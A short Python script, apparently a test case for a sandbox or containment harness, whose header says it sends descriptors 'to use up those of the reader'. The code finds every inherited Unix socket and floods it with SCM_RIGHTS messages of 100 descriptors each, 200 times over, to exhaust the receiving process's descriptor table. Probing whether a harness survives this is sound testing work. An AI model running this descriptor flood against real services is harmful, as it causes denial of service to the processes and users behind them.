#: act: send descriptors with its messages, a hundred at a time, to use up those of the reader
#: status: completed
#: within: 8
import array
import os
import socket
import stat
import struct

header = struct.pack("<4sBBHI", b"CSN1", 5, 1, 0, 1) + b" "
sent = 0
for name in os.listdir("/proc/self/fd"):
    descriptor = int(name)
    try:
        if descriptor <= 2 or not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            continue
        channel = socket.socket(fileno=os.dup(descriptor))
        channel.settimeout(0.5)
        for _ in range(200):
            channel.sendmsg([header], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 100))])
            sent += 100
    except OSError:
        pass
print("contained: sent", sent, "descriptors")
os._exit(0)
